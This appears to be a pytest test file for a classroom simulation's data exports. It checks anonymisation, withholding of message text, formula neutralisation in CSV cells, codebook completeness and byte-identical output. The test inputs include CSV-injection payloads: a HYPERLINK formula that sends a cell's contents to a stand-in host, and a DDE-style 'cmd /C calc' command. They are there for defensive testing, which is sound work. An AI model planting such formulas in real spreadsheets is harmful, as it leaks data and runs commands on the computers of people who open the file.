"""
Goal: files hide people, bring no formula, explain themselves and are the same again.
"""

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import duckdb
import pytest
from attrs import evolve
from hypothesis import given
from hypothesis import strategies as st

from classroom import leading, moving
from classroom.cohort import facts as f
from classroom.exports import FILES, export, kept_of
from classroom.exports.columns import KEYS, SHEETS, TYPES, UNITS, columns_of
from classroom.exports.written import BOM, quoted, unquoted
from classroom.room import Room
from classroom.store.sqlite import open_sqlite
from sim.words import languages
from tests.classroom import planted
from tests.classroom.planted_room import CODE, Wall, holder
from tests.classroom.planted_room import played as played_room

CANARY = "Zephyrine"
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"all right")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "= 1+1", " =1+1", '"=1+1"', "hi;=1+1", "hi; @SUM(1)", "'=1", "'plain", "it's fine", 'a,b"c',
    "-5", "\uff1d1+1", "5;-5", "é à ü 漢字 🙂",
)  # fmt: skip
RISKY = set("=+-@\uff1d\uff0b\uff0d\uff20\t\r\n")


def write_all(room):
    """
    Let the buyer of table 1 write every formula, to all and to one.
    """
    who = holder(room, 1, planted.ORCHARD)
    for at, body in enumerate(FORMULAS):
        to = planted.MILL if at % 2 else None
        assert "done" in moving.say(room, who, f"say-{at}", to, body)
    other = holder(room, 2, planted.MILL)
    moving.say(room, other, "say-other", None, f"I am {CANARY}-said")
    moving.fill(room, who, {f.EXIT: ({"useful": 6}, {}, {"unclear": f"={CANARY}-wrote"})})
    first = dict(planted.package(10, "kept", "open", 0).items)
    texts = {"batna": f"{CANARY}-batna"}
    moving.fill(room, other, {f.PREPARATION: ({"reservation": 1}, first, texts)})


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("class")


@pytest.fixture(scope="module")
def room(folder):
    store = open_sqlite(folder)
    yield played_room(store, Wall(), name=CANARY + " {n}", before=write_all)
    store.close()


@pytest.fixture(scope="module")
def kept(room):
    return kept_of(room)


def everything(kept, **how):
    """
    Return every file but the one that holds them all.
    """
    return {name: export(kept, name, **how) for name in FILES if name != "class.zip"}


def read_csv(data):
    """
    Return columns and rows of CSV as texts, none where a cell is empty.
    """
    columns, *found = csv.reader(io.StringIO(data.decode(), newline=""))
    return columns, [[cell or None for cell in row] for row in found]


def test_no_name_and_no_word_is_in_any_file_unless_asked_for(room, kept):
    known = [one.name for one in room.names.values()] + list(FORMULAS[:9])
    for name, data in everything(kept).items():
        text = data.decode()
        assert CANARY not in text, name
        if name.startswith(("messages", "surveys", "events", "decisions")):
            assert not [one for one in known if one in text], name
    withheld = [json.loads(line) for line in export(kept, "messages.jsonl").splitlines()]
    assert {(row["body_status"], row["body"]) for row in withheld} == {("withheld", None)}


def test_what_files_are_made_of_holds_no_name_and_no_token(room, kept):
    told = repr(kept)
    assert f"{CANARY}-said" in told
    for one in room.names.values():
        assert one.name not in told
        assert one.token.hex() not in told
        assert repr(one.token) not in told


def test_words_come_on_request_and_names_never(room, kept):
    asked = everything(kept, messages=True)
    told = [json.loads(line) for line in asked["messages.jsonl"].splitlines()]
    bodies = [row["body"] for row in told if row["group_id"] == 1]
    assert bodies == [moving.cleaned(one) for one in FORMULAS]
    assert {(row["to"], row["channel"]) for row in told} == {("all", "table"), ("mill", "pair")}
    forms = [json.loads(line) for line in asked["surveys.jsonl"].splitlines()]
    texts = {row["item"]: row["body"] for row in forms if row["item_kind"] == "text"}
    assert texts == {"unclear": f"={CANARY}-wrote", "batna": f"{CANARY}-batna"}
    for name, data in asked.items():
        text = data.decode()
        assert not [one.name for one in room.names.values() if one.name in text], name
        assert name.startswith(("messages", "surveys")) or CANARY not in text, name


def test_lengths_of_messages_tell_no_word(kept):
    found = [json.loads(line) for line in export(kept, "decisions.jsonl").splitlines()]
    lengths = [row["text_length"] for row in found
               if row["group_id"] == 1 and row["move_kind"] == "say"]  # fmt: skip
    assert lengths == [len(moving.cleaned(one)) for one in FORMULAS]


def test_no_cell_begins_a_formula_unless_it_is_a_number_of_ours(kept):
    for sheet in SHEETS:
        whole = {one.name for one in columns_of(sheet, kept.valued) if one.type == "whole"}
        columns, found = read_csv(export(kept, f"{sheet}.csv", messages=True))
        for row in found:
            for name, cell in zip(columns, row, strict=True):
                if cell is None:
                    continue
                if name in whole:
                    assert str(int(cell)) == cell
                else:
                    assert not cells_run_by_a_spreadsheet(cell), cell


def cells_run_by_a_spreadsheet(text):
    """
    Return what would be run, be the separator of whoever opens the file a comma or a semicolon.
    """
    parts = [text, *text.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")]
    return [part for part in parts if part.lstrip(' "')[:1] in RISKY]


@given(st.text(alphabet=st.sampled_from("=+-@'\"; \t\r\nab\uff1d,"), max_size=12))
def test_quoting_stops_formulas_and_can_be_undone(text):
    assert unquoted(quoted(text)) == text
    assert not cells_run_by_a_spreadsheet(quoted(text))


@pytest.mark.parametrize("sheet", SHEETS)
def test_csv_json_lines_and_duckdb_read_the_same(kept, sheet, tmp_path):
    columns = columns_of(sheet, kept.valued)
    rows = [json.loads(line) for line in export(kept, f"{sheet}.jsonl", messages=True).splitlines()]
    data = export(kept, f"{sheet}.csv", messages=True)
    names, found = read_csv(data)
    assert names == [one.name for one in columns]
    path = tmp_path / f"{sheet}.csv"
    path.write_bytes(data)
    read = duckdb.read_csv(str(path), header=True, all_varchar=True, delimiter=",", quotechar='"')
    assert [list(row) for row in read.fetchall()] == found
    assert len(found) == len(rows)
    for cells, row in zip(found, rows, strict=True):
        assert list(row) == names
        for column, cell in zip(columns, cells, strict=True):
            kind = int if column.type == "whole" else unquoted
            assert (None if cell is None else kind(cell)) == row[column.name]
            if column.type == "json" and cell is not None:
                assert isinstance(json.loads(cell), dict)


def test_a_mark_for_spreadsheets_stands_only_where_it_is_asked_for(kept):
    for name, data in everything(kept).items():
        marked = export(kept, name, bom=True)
        assert marked == (BOM + data if name.endswith(".csv") else data)


@pytest.mark.parametrize("lang", languages())
def test_codebook_and_datapackage_name_exactly_the_columns_there_are(kept, lang):
    read = evolve(kept, lang=lang)
    package = json.loads(export(read, "datapackage.json"))
    book = export(read, "codebook.md").decode()
    assert [one["path"] for one in package["resources"]] == [f"{one}.csv" for one in SHEETS]
    for resource in package["resources"]:
        sheet = resource["path"].removesuffix(".csv")
        columns, _ = read_csv(export(read, resource["path"]))
        assert [one["name"] for one in resource["schema"]["fields"]] == columns
        assert resource["schema"].get("primaryKey", []) == list(KEYS.get(sheet, ()))
        part = book.split(f"\n## {sheet}\n")[1].split("\n## ")[0]
        told = [line.split("`")[1] for line in part.splitlines() if line.startswith("| `")]
        assert told == columns
        assert all(one["description"] for one in resource["schema"]["fields"])
    assert "class." not in book.replace("class.zip", "")
    assert "class." not in json.dumps(package)


@pytest.mark.parametrize("lang", languages())
def test_codebook_explains_every_measure_of_the_panels_and_nothing_stays_open(kept, lang):
    read = evolve(kept, lang=lang)
    *_, rows_part, totals_part = export(read, "codebook.md").decode().split("\n## ")
    told = [
        {tuple(cell.strip("` ") for cell in line.split("|")[1:4]) for line in part.splitlines()
         if "`" in line}
        for part in (rows_part, totals_part)
    ]  # fmt: skip
    assert all(meaning for part in told for *_, meaning in part)
    pairs = [{(panel, measure) for panel, measure, _ in part} for part in told]
    for line in export(read, "panels.jsonl").splitlines():
        row = json.loads(line)
        if row["row"] is not None:
            assert (row["panel"], row["measure"]) in pairs[0]
        elif row["role"] is None:
            assert (row["panel"], row["measure"]) in pairs[1]
        else:
            assert ("", row["measure"]) in pairs[1]


def test_every_column_has_a_type_and_a_unit_that_are_explained():
    for sheet in SHEETS:
        for one in columns_of(sheet, ("a", "b")):
            assert one.type in TYPES
            assert one.unit in UNITS
            assert not one.unit or one.type == "whole"


def test_the_zip_holds_the_other_files_and_no_moment(kept):
    with zipfile.ZipFile(io.BytesIO(export(kept, "class.zip", messages=True, bom=True))) as found:
        inside = {one.filename: found.read(one) for one in found.infolist()}
        assert {one.date_time for one in found.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    plain = everything(kept, messages=True, bom=True)
    assert inside == {f"{CODE}/{name}": data for name, data in plain.items()}


def digests(room):
    """
    Return the digest of every file in every way of asking.
    """
    kept = kept_of(room)
    return {
        f"{name} {messages}": hashlib.sha256(export(kept, name, messages=messages)).hexdigest()
        for name in FILES
        for messages in (False, True)
    }


def test_another_room_on_the_same_store_writes_the_same_bytes(room):
    assert digests(Room(room.store, room.code, room.now)) == digests(room)


@pytest.mark.slow
def test_a_pause_that_a_phase_ends_reads_the_same_again(tmp_path):
    store, wall = open_sqlite(tmp_path), Wall()
    room = played_room(store, wall, until_paused=True)
    again = Room(store, room.code, wall)
    assert room.pauses == again.pauses
    assert [until - since for since, until in again.pauses] == [7000]
    assert everything(kept_of(again)) == everything(kept_of(room))
    store.close()


SCRIPT = """
import json, sys
from pathlib import Path
from classroom.room import Room
from classroom.store.sqlite import open_sqlite
from tests.classroom.test_exports_files import digests
store = open_sqlite(Path(sys.argv[1]))
print(json.dumps(digests(Room(store, sys.argv[2], lambda: 0))))
store.close()
"""


@pytest.mark.slow
@pytest.mark.parametrize("seed", ["0", "1", "4294967295"])
def test_another_process_writes_the_same_bytes_whatever_its_hashes(room, folder, seed):
    root = Path(__file__).parents[2]
    paths = os.pathsep.join(map(str, (root, root / "tests")))
    env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": paths, "TZ": "Asia/Tokyo"}
    run = subprocess.run(
        [sys.executable, "-c", SCRIPT, str(folder), room.code],
        env=env, check=True, capture_output=True, cwd=root, timeout=120,
    )  # fmt: skip
    assert json.loads(run.stdout) == digests(room)


@pytest.mark.slow
def test_an_erasure_takes_words_and_nothing_else(tmp_path):
    store = open_sqlite(tmp_path)
    room = played_room(store, Wall(), name=CANARY + " {n}", before=write_all)
    who = holder(room, 1, planted.ORCHARD)
    before = everything(kept_of(room)), everything(kept_of(room), messages=True)
    leading.erase(room, who)
    after = everything(kept_of(room)), everything(kept_of(room), messages=True)
    changed = {name for one, two in zip(before, after, strict=True) for name in one
               if one[name] != two[name]}  # fmt: skip
    assert {name.partition(".")[0] for name in changed} == {"messages", "surveys", "decisions"}
    for sheet, lost in (("messages", {"body", "body_status"}), ("surveys", {"body", "body_status"}),
                        ("decisions", {"text_length"})):  # fmt: skip
        old, new = (
            [json.loads(line) for line in one[1][f"{sheet}.jsonl"].splitlines()]
            for one in (before, after)
        )
        for was, now in zip(old, new, strict=True):
            differs = {key for key in was if was[key] != now[key]}
            assert differs == (lost if has_words(was) and was["participant_code"] == who else set())
    for name in ("messages.csv", "surveys.csv"):
        assert before[0][name] == after[0][name]
    assert f"{CANARY}-wrote".encode() not in b"".join(after[1].values())
    store.close()


def has_words(row):
    """
    Tell whether a row holds words, or how many there were.
    """
    return bool(row.get("body") or row.get("text_length"))
